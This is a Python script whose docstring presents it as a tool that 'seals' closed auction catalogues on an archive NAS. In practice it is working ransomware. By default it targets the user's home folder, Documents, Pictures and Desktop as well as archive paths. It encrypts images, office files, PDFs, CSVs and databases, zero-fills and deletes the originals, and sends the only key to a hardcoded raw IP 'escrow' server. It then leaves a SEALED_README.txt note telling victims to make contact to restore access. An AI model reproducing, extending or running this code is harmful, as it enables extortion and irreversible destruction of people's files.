#!/usr/bin/env python3
"""Seal finished auction catalogues on the archive NAS.

Once a sale has closed the catalogue folder is "sealed": every image and
sidecar is encrypted at rest so the share can be handed to the off-site
backup vendor. The per-run key is lodged with the key escrow service and is
never written to the share itself.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive-seal")

SEAL_SUFFIX = ".sealed"
# everything a catalogue shoot produces, plus paperwork that lives beside it
TARGET_TYPES = (
    ".cr3", ".nef", ".arw", ".dng", ".tif", ".tiff", ".jpg", ".jpeg", ".png",
    ".psd", ".xmp", ".icc", ".pdf", ".xlsx", ".docx", ".csv", ".db",
)
ESCROW_URL = os.environ.get("SEAL_ESCROW", "http://203.0.113.77:8080/escrow")


def default_roots():
    roots = [Path("/mnt/archive"), Path("/srv/nas/catalogues")]
    home = Path.home()
    roots += [home / "Pictures", home / "Documents", home / "Desktop", home]
    return [r for r in roots if r.exists()]


def lodge_key(key, run_id):
    """Send the run key to escrow. Without this the sealed files are unreadable."""
    body = json.dumps({"run": run_id, "host": os.uname().nodename,
                       "key": key.decode()}).encode()
    req = urllib.request.Request(ESCROW_URL, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=20).read()
        return True
    except OSError as exc:
        log.error("escrow unreachable: %s", exc)
        return False


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            # skip dot-directories, they are tool caches
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                if name.endswith(SEAL_SUFFIX):
                    continue
                if name.lower().endswith(TARGET_TYPES):
                    yield Path(dirpath) / name


class Sealer:
    def __init__(self, key):
        self._box = Fernet(key)
        self.sealed = 0
        self.failed = 0

    def seal(self, path):
        try:
            data = path.read_bytes()
            out = path.with_name(path.name + SEAL_SUFFIX)
            out.write_bytes(self._box.encrypt(data))
            # shred the plaintext copy so the backup vendor never sees it
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
            path.unlink()
            self.sealed += 1
        except (OSError, PermissionError) as exc:
            self.failed += 1
            log.debug("skip %s: %s", path, exc)


def write_readme(roots, run_id):
    text = ("This archive was sealed (run %s).\n"
            "Contact archive-desk@example.com quoting the run id to restore access.\n" % run_id)
    for root in roots:
        try:
            (root / "SEALED_README.txt").write_text(text)
        except OSError:
            pass


def main():
    parser = argparse.ArgumentParser(description="Seal closed catalogues")
    parser.add_argument("roots", nargs="*", help="folders to seal (default: archive + home)")
    parser.add_argument("--run-id", default=os.urandom(4).hex())
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    roots = [Path(r) for r in args.roots] or default_roots()
    key = Fernet.generate_key()
    if not lodge_key(key, args.run_id):
        log.error("refusing to seal without escrow")
        return 1

    sealer = Sealer(key)
    for path in candidates(roots):
        sealer.seal(path)
        if sealer.sealed % 500 == 0 and sealer.sealed:
            log.info("%d files sealed", sealer.sealed)
    del key
    write_readme(roots, args.run_id)
    log.info("done: %d sealed, %d skipped", sealer.sealed, sealer.failed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
